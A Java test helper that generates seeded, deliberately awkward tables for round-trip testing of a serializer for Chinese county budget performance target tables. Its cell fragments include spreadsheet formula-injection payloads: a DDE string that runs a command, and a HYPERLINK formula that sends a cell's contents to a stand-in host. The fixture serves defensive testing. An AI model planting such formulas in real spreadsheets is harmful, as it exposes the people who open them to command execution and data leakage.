package io.github.jixiao.serialization;

import io.github.jixiao.core.Amount;
import io.github.jixiao.core.AmountUnit;
import io.github.jixiao.core.Budget;
import io.github.jixiao.core.BudgetUnit;
import io.github.jixiao.core.Checkpoint;
import io.github.jixiao.core.Comparison;
import io.github.jixiao.core.Direction;
import io.github.jixiao.core.Indicator;
import io.github.jixiao.core.ProjectTargetTable;
import io.github.jixiao.core.SpendingPlan;
import java.math.BigDecimal;
import java.time.Month;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Seeded tables whose cells hold what round trips have lost or refused: spreadsheet formulas, leading
 * apostrophes, a lone minus, surrounding and full-width spaces, CR and CRLF, blank categories below filled
 * ones, a unit name that begins with its own code, goals that look numbered, decimals of extreme scale,
 * control characters, lone surrogates, and consecutive tables that share a code. The same seed gives the
 * same tables, built from the Wei county 2025 facts.
 */
final class AwkwardCellTables {
  private static final String[] PIECES = {"=HYPERLINK(\"http://x.example/?\"&A2,\"详情\")", "+cmd|' /C calc'!A0",
      "@SUM(A1)", "-", "-5", "-2+3", "'", "''=1", "\t", "\r", "\n", "\r\n", "\u3000", "\u00A0", " ", "\f", "\uFEFF",
      "特困生救助", "全县特困生救助100人", "1.", "2、", "712001", "[015001]", "😀", "\"", ",", "<", "&", "]]>", "100人",
      "≤5万元", "2025年", "\u0001", "\uD800"};
  private static final String[] CATEGORIES = {"产出指标", "效益指标", "满意度指标", "", " 产出指标"};
  private static final String[] DECIMALS = {"5.00", "-5.00", "0", "0.000", "3309840.00", "12.5", "-2.5", "100"};
  private static final String[] EXTREME_DECIMALS = {"5E+3", "1E-250", "1E+1", "1E-99999", "-0E-300",
      "0.000000000000000000000000000000000000000000000000000000000000001", "1" + "0".repeat(300) + ".5"};
  private static final String CODE = "13043425P00437410002E";

  private final Random random;
  private final boolean controls;

  /**
   * @param controls whether text may hold control characters and lone surrogates; without them, tables are
   *     refused far less often and the round trips themselves get exercised
   */
  AwkwardCellTables(long seed, boolean controls) {
    this.random = new Random(seed);
    this.controls = controls;
  }

  /** One to four tables. */
  List<ProjectTargetTable> tables() {
    int n = random.nextInt(4) + 1;
    List<ProjectTargetTable> tables = new ArrayList<>();
    for (int i = 0; i < n; i++) {
      tables.add(table(i, tables.isEmpty() ? null : tables.get(i - 1)));
    }
    return tables;
  }

  private ProjectTargetTable table(int index, ProjectTargetTable before) {
    AmountUnit unit = AmountUnit.values()[random.nextInt(3)];
    ProjectTargetTable.Builder b = ProjectTargetTable.builder().amountUnit(unit);
    int code = random.nextInt(10);
    if (code < 6) {
      b.projectCode(CODE.substring(0, 19) + index + random.nextInt(10));
    } else if (code < 7 && before != null) {
      before.projectCode().ifPresent(b::projectCode);
    } else if (code < 8) {
      b.projectCode(text());
    }
    if (random.nextInt(6) > 0) {
      b.projectName(random.nextInt(4) == 0 ? text() : "2025年特困生救助金" + index + text());
    }
    switch (random.nextInt(4)) {
      case 0 -> b.unit(BudgetUnit.of("712001", "712001中国共产主义青年团魏县委员会本级"));
      case 1 -> b.unit(BudgetUnit.ofName("2025年" + text()));
      case 2 -> b.unit(BudgetUnit.of(text(), text()));
      default -> { }
    }
    if (random.nextBoolean()) {
      b.fiscalYear(2025);
    }
    b.budget(Budget.of(amount(unit), amount(unit), amount(random.nextInt(20) == 0 ? AmountUnit.YUAN : unit)));
    if (random.nextBoolean()) {
      b.fundUse(text());
    }
    if (random.nextBoolean()) {
      SpendingPlan.Builder plan = SpendingPlan.builder();
      for (Month m : SpendingPlan.STANDARD_MONTH_ENDS) {
        plan.addCheckpoint(random.nextInt(3) == 0 ? Checkpoint.parse(m, "") : Checkpoint.of(m, decimal()));
      }
      b.spendingPlan(plan.build());
    }
    int goals = random.nextInt(4);
    for (int i = 0; i < goals; i++) {
      b.addGoal(random.nextInt(3) == 0 ? text() : "全县特困生救助" + text() + "人");
    }
    int indicators = random.nextInt(5);
    for (int i = 0; i < indicators; i++) {
      b.addIndicators(indicator());
    }
    return b.build();
  }

  private Indicator indicator() {
    Indicator.Builder b = Indicator.builder()
        .categoryLabel(CATEGORIES[random.nextInt(CATEGORIES.length)])
        .subcategoryLabel(random.nextInt(3) == 0 ? "" : "数量指标")
        .name(random.nextBoolean() ? "全县特困生救助人数" : text())
        .target(random.nextBoolean() ? "100人" : text());
    if (random.nextBoolean()) {
      b.description(text());
    }
    if (random.nextBoolean()) {
      b.basis(random.nextBoolean() ? "单位年度工作计划" : text());
    }
    if (random.nextInt(4) == 0) {
      b.comparison(Comparison.values()[random.nextInt(Comparison.values().length)])
          .unitOfMeasure(text())
          .direction(Direction.values()[random.nextInt(Direction.values().length)])
          .weight(decimal());
    }
    return b.build();
  }

  private Amount amount(AmountUnit unit) {
    return random.nextInt(4) == 0 ? null : Amount.of(decimal(), unit);
  }

  private BigDecimal decimal() {
    return new BigDecimal(random.nextInt(25) == 0 ? EXTREME_DECIMALS[random.nextInt(EXTREME_DECIMALS.length)]
        : DECIMALS[random.nextInt(DECIMALS.length)]);
  }

  private String text() {
    StringBuilder b = new StringBuilder();
    int pieces = random.nextInt(4);
    for (int i = 0; i < pieces; i++) {
      String piece = PIECES[random.nextInt(PIECES.length)];
      if (controls || !piece.equals("\u0001") && !piece.equals("\uD800")) {
        b.append(piece);
      }
    }
    return b.toString();
  }
}
